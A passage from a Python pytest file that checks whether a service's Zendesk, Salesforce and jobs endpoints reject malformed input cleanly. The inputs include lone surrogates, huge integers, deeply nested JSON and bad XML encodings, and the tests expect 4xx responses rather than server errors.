    stamp = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return {
        "content-type": "application/json",
        "x-zendesk-webhook-signature": zendesk_signature(SECRET_NEW, stamp, body),
        "x-zendesk-webhook-signature-timestamp": stamp,
    }


JOBS_HEADERS = {"authorization": f"Bearer {KEYS['requester']}", "content-type": "application/json"}
HUGE_INT = b"1" * 5000
DEEP = b"[" * 5_000 + b"]" * 5_000


def _post(api: Api, path: str, body: bytes, headers: dict[str, str]) -> None:
    resp, grew = api.post(path, body, headers)
    assert resp.status_code < 500, show(resp)
    check_problem(resp)
    assert grew == 0


def test_zendesk_event_type_with_a_lone_surrogate_is_not_500(api: Api) -> None:
    body = b'{"type": "zen:event-type:\\ud800", "id": "e1", "detail": {}}'
    resp, grew = api.post("/webhooks/zendesk", body, signed_zendesk(body))
    assert resp.status_code < 500, show(resp)
    assert grew == 0


@pytest.mark.parametrize("endpoint", ["zendesk", "jobs"])
@pytest.mark.parametrize("body", [b'{"ticket_id": ' + HUGE_INT + b"}", DEEP], ids=["int", "deep"])
def test_unparseable_json_numbers_and_nesting_are_400(api: Api, endpoint: str, body: bytes) -> None:
    if endpoint == "zendesk":
        _post(api, "/webhooks/zendesk", body, signed_zendesk(body))
    else:
        _post(api, "/v1/jobs", body, JOBS_HEADERS)


@pytest.mark.parametrize("encoding", ["no-such-codec", "utf-7", "shift_jis"])
def test_salesforce_unusable_xml_encoding_is_400(api: Api, encoding: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode()
    _post(api, "/webhooks/salesforce", body, {"content-type": "text/xml"})


def test_inputs_just_inside_the_known_bug_limits_are_handled(api: Api) -> None:
    """Control for the xfail tests: the same requests within the limits get clean answers."""
    xml = {"content-type": "text/xml"}
    cases: list[tuple[str, bytes, dict[str, str] | None, int]] = [
        # A lone surrogate outside `type`; an ignored event type without one.
        ("/webhooks/zendesk", b'{"ticket_id": "5", "updated_at": "\\ud800"}', None, 422),
        ("/webhooks/zendesk", b'{"type": "zen:event-type:\\u00e9", "id": "e1", "detail": {}}',
         None, 200),
        # Just under the 4300-digit and the recursion limits of json.loads.
        ("/webhooks/zendesk", b'{"ticket_id": 6, "updated_at": "u", "n": ' + b"1" * 4000 + b"}",
         None, 202),
        ("/webhooks/zendesk", b"[" * 500 + b"]" * 500, None, 422),
        ("/v1/jobs", b"[" * 500 + b"]" * 500, JOBS_HEADERS, 422),
        # Encodings expat reads.
        ("/webhooks/salesforce", b'<?xml version="1.0" encoding="latin-1"?><a/>', xml, 422),
        ("/webhooks/salesforce", b'<?xml version="1.0" encoding="utf-16"?><a/>', xml, 400),
    ]  # fmt: skip
    for path, body, headers, expected in cases:
        resp, grew = api.post(path, body, headers or signed_zendesk(body))
        assert resp.status_code == expected, (path, body[:60], show(resp))
        if expected >= 400:
            check_problem(resp)
        assert grew == (1 if expected == 202 else 0)
